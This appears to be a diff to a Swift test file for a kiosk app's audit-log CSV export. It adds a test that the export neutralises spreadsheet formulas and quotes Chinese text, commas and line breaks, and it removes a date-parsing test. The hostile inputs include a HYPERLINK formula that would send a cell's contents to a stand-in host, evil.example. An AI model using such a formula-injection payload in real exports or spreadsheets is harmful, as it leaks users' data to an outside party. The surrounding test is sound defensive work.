@@ -65,6 +65,35 @@ import Testing
         #expect(lines[1].hasSuffix(",T-01,session.started,success,110***********123X,n=0"))
     }
 
+    /// Subjects and details a spreadsheet would run, or that would break a naive CSV line.
+    static let hostile = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
+        "他说\"好\"", "第一行\r\n=1+1", "北京市东城区,东四北大街",
+    ]
+
+    @Test func csvNeutralisesFormulasAndQuotesHostileCells() async throws {
+        let state = try OpsFixtures.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: state) }
+        let database = try AppDatabase.open(directory: state.path)
+        for (index, text) in Self.hostile.enumerated() {
+            try await database.recordAudit(
+                AuditEvent(
+                    time: Date(timeIntervalSince1970: 1_800_000_000 + Double(index)), terminalId: "T-01",
+                    event: "odd", outcome: "success", subject: text, detail: text))
+        }
+        let result = try await OpsFixtures.run(
+            OpsFixtures.kioskBinary, ["audit", "export", "--state-directory", state.path], environment: Self.shanghai)
+        #expect(result.status == 0, "\(result.stderr)")
+        let records = CSVRecords.parse(result.stdout)
+        #expect(records.count == Self.hostile.count + 1, "\(result.stdout)")
+        #expect(records.allSatisfy { $0.count == AuditExport.columns.count }, "\(records)")
+        for (record, text) in zip(records.dropFirst(), Self.hostile) {
+            let written = CSVRecords.isFormula(text) ? "'" + text : text
+            #expect(record[5] == written && record[6] == written, "\(record)")
+        }
+        #expect(!records.joined().contains(where: CSVRecords.isFormula), "\(records)")
+    }
+
     @Test func rejectsABadDateAndFormat() async throws {
         let state = try OpsFixtures.temporaryDirectory()
         defer { try? FileManager.default.removeItem(at: state) }
@@ -73,15 +102,5 @@ import Testing
                 OpsFixtures.kioskBinary, ["audit", "export", "--state-directory", state.path] + arguments)
             #expect(result.status == 64, "\(arguments): \(result.stderr)")
         }
-    }
-
-    @Test func sinceParsing() throws {
-        let shanghai = try #require(TimeZone(identifier: "Asia/Shanghai"))
-        #expect(AuditSince.parse("2027-01-15", timeZone: shanghai) == Date(timeIntervalSince1970: 1_800_000_000 - 16 * 3_600))
-        #expect(AuditSince.parse("2027-01-15T08:00:00Z") == Date(timeIntervalSince1970: 1_800_000_000))
-        #expect(AuditSince.parse("2027-01-15T16:00:00+08:00") == Date(timeIntervalSince1970: 1_800_000_000))
-        #expect(AuditSince.parse("2027-01-15T08:00:00.500Z") == Date(timeIntervalSince1970: 1_800_000_000.5))
-        #expect(AuditSince.parse("2027-02-30", timeZone: shanghai) == nil)
-        #expect(AuditSince.parse("yesterday") == nil)
     }
 }
